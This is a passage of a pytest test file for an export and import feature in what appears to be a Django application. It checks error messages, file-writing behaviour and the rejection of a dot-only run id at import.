def test_an_import_job_has_no_package_to_download(client, lead, demo_runs):
    job = Job.objects.create(kind=Job.Kind.IMPORT, project=Project.objects.get(slug="demo"))
    client.force_login(lead)
    assert client.get(reverse("job_download", args=["demo", job.code])).status_code == 404


# --- the command's contract -------------------------------------------------------------------


def test_an_unknown_project_or_run_is_a_clean_error_and_writes_nothing(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    with pytest.raises(CommandError, match="project 'nope' does not exist") as caught:
        export(out=out, project="nope")
    assert caught.value.returncode == 1
    with pytest.raises(CommandError, match="run 'nope' does not exist"):
        export("--run", "nope", out=out)
    with pytest.raises(CommandError, match="run 'nope' does not exist"):
        export("--compare", "q017-r1", "nope", out=out)
    assert list(tmp_path.iterdir()) == []


def test_an_out_path_in_a_missing_directory_is_a_clean_error(demo_runs, tmp_path):
    with pytest.raises(CommandError):
        export(out=tmp_path / "no-such-directory" / "package.zip")


def test_an_out_path_that_is_a_directory_is_a_one_line_error_and_writes_nothing(
    demo_runs, tmp_path
):
    folder = tmp_path / "packages"
    folder.mkdir()
    with pytest.raises(CommandError) as caught:
        export(out=folder)
    assert caught.value.returncode == 1
    assert str(caught.value) == f"{folder}: is a directory, not a file"
    assert list(tmp_path.iterdir()) == [folder]
    assert list(folder.iterdir()) == []
    assert not AuditExport.objects.exists()


def test_a_package_the_system_refuses_to_store_is_a_one_line_error_and_leaves_nothing(
    demo_runs, tmp_path, monkeypatch
):
    def refuse(source, target):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", refuse)
    out = tmp_path / "package.zip"
    with pytest.raises(CommandError) as caught:
        export(out=out)
    assert caught.value.returncode == 1
    assert str(caught.value) == f"{out}: cannot write the package: Permission denied"
    assert list(tmp_path.iterdir()) == []
    assert not AuditExport.objects.exists()


def test_the_command_overwrites_an_older_package_at_the_same_path(demo_runs, tmp_path):
    out = tmp_path / "package.zip"
    out.write_bytes(b"an older file")
    export("--run", "q017-r1", out=out)
    assert set(members(out)) == layout(["q017-r1"])
    assert [p.name for p in tmp_path.iterdir()] == ["package.zip"]  # no .partial left behind


def test_a_run_id_of_dots_is_refused_at_import_so_no_path_escapes_its_folder(project):
    from ingest.services import BundleInvalid

    with pytest.raises(BundleInvalid) as refused:
        import_bytes(bundle_bytes(*synthetic_bundle(run_id="..", cases=1)))
    assert "line 1: /run_id: a run id of dots only" in refused.value.lines()[0]
